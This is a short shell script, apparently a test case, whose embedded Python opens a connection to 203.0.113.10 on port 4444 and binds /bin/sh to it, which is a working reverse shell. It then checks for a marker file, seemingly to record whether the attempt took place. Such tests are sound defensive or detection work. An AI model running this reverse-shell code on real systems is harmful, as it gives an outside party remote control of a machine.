#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, socket
try: s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
except OSError: s = socket.socket()
s.connect(("203.0.113.10", 4444)); n = s.fileno()
p = os.posix_spawn("/bin/sh", ["-sh"], dict(os.environ), file_actions=[(os.POSIX_SPAWN_DUP2, n, k) for k in (0, 1, 2)], setsid=True); os.waitpid(p, 0)
END
test -e /tmp/reached
took_place
